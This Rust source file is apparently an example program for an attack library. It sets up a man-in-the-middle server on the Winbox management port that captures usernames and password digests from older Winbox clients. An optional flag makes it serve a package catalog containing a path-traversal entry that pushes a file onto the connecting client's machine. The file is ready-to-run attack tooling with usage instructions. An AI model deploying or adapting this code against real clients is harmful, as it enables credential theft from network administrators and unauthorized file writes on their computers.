//! Winbox MITM Server Example
//!
//! This example demonstrates how to:
//! - Bind the MITM server on the management port
//! - Capture credentials from login attempts
//! - Optionally serve the package catalog with a traversal entry and
//!   push a file onto the connecting client
//!
//! Usage:
//!   cargo run --example mitm_server [bind_address] [--serve-catalog]
//!
//! Example:
//!   cargo run --example mitm_server 0.0.0.0:8291 --serve-catalog
//!
//! Point a pre-6.43 Winbox client at the listen address and watch the
//! captured credentials on stdout. Set RUST_LOG=debug for per-frame logs.

use std::env;
use std::sync::Arc;

use tracing_subscriber::EnvFilter;

use krait_proto::winbox::{MitmConfig, MitmServer, DEFAULT_PORT};

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .init();

    let args: Vec<String> = env::args().collect();
    let bind_addr = args
        .iter()
        .skip(1)
        .find(|arg| !arg.starts_with("--"))
        .cloned()
        .unwrap_or_else(|| format!("0.0.0.0:{}", DEFAULT_PORT));
    let serve_catalog = args.iter().any(|arg| arg == "--serve-catalog");

    let mut config = MitmConfig::default();
    config.serve_catalog = serve_catalog;

    println!("=== Krait Winbox MITM Server ===");
    println!();
    println!("Configuration:");
    println!("  Bind address:  {}", bind_addr);
    println!("  Read timeout:  {:?}", config.read_timeout);
    println!(
        "  Catalog:       {}",
        if serve_catalog {
            "enabled (listing + file drop)"
        } else {
            "disabled (capture only)"
        }
    );
    if serve_catalog {
        println!("  File drop:     {}", config.file_drop.destination);
    }
    println!();

    let mut server = MitmServer::bind_with_config(&bind_addr, config).await?;
    server.set_credential_callback(Arc::new(|credential| {
        println!(
            "[+] captured credential: {} / {}",
            credential.username,
            hex::encode(credential.digest)
        );
    }));

    println!("Listening on {} (Press Ctrl+C to stop)", server.local_addr()?);
    println!("─────────────────────────────────────────────────────");
    println!();

    server.serve().await?;
    Ok(())
}
